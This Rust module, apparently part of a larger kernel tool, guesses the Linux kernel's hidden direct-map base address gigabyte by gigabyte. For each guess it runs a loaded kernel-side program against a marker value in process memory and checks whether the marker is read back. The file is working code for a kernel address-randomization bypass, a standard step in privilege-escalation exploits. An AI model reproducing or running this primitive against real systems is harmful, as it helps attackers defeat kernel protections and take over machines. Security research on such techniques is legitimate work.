//! Where the kernel has all memory mapped (`page_offset_base`, which it tells nobody): it is guessed, GB by GB, until
//! memory of this process is found by way of the guess.

use std::hint::black_box;
use std::os::fd::BorrowedFd;

use crate::sys::{self, program};

/// The program that tries a guess.
pub const PROGRAM: &str = "find_direct_map";

/// GB below its page tables' own that are tried: twice what the machine has, for memory has gaps, and some more.
fn guesses() -> u64 {
    2 * (sys::memory() >> 30) + 64
}

/// Has the kernel side find it, and says whether it has.
pub fn find(program: BorrowedFd<'_>) -> bool {
    let word = Box::new(sys::clock(libc::CLOCK_BOOTTIME) ^ 0x5bd1_e995_9e37_79b9);
    let address = std::ptr::from_ref(black_box(&*word)) as u64;
    (0..2).any(|five_levels| {
        (0..guesses())
            .map(|guess| is_it(program, [address, *word, guess, five_levels]))
            .find_map(|found| match found {
                Some(false) => None,
                other => other,
            })
            .unwrap_or(false)
    })
}

/// `None`: the kernel doesn't run it.
fn is_it(program: BorrowedFd<'_>, arguments: [u64; 4]) -> Option<bool> {
    let mut context = [0; 32];
    for (place, argument) in context.chunks_exact_mut(8).zip(arguments) {
        place.copy_from_slice(&argument.to_ne_bytes());
    }
    program::run(program, &context).ok().map(|returned| returned == 1)
}
